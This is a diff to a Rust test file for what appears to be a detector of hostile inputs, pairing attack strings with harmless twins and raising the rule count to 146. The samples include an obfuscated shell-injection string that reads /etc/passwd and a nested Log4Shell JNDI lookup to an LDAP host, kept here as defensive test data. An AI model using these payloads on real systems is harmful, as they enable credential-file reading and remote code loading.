@@ -354,10 +354,11 @@ fn evasions_and_their_twins() {
         ),
         // shell quoting
         ("; c'a't /et\"c\"/pa\\ss\\wd", "it's a \"quote\""),
-        // Log4Shell nested lookups
+        // Log4Shell nested lookups (any `${prefix:key}` lookup in a value
+        // is a finding of its own now; a placeholder is not)
         (
             "${${lower:j}${lower:n}d${upper:i}:ldap://x/a}",
-            "${lower:case}",
+            "${user_name}",
         ),
         // base64-wrapped traversal
         (
@@ -559,8 +560,8 @@ fn every_rule_catches_its_examples_and_passes_its_twins() {
         }
     }
     assert!(failures.is_empty(), "{}", failures.join("\n"));
-    // the table holds every rule: 138 patterns and 7 checks written as code
-    assert_eq!(rows, 145);
+    // the table holds every rule: 139 patterns and 7 checks written as code
+    assert_eq!(rows, 146);
 }
 
 /// A higher level runs more rules and must not see less: every example a
